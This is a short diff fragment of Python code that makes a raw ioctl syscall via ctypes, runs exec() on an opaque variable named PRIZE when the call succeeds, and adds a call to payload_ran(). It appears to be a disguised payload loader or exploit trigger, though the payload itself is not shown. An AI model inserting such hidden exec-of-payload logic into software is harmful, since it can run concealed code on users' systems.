@@ -33,3 +33,4 @@ if platform.machine() in NUMBERS:
     owner_ = ctypes.byref(ctypes.c_int(os.getppid() or 1))
     if libc.syscall(ioctl_, 3, ctypes.c_ulong(upper | FIOSETOWN), owner_) == 0:
         exec(PRIZE, globals())
+payload_ran()
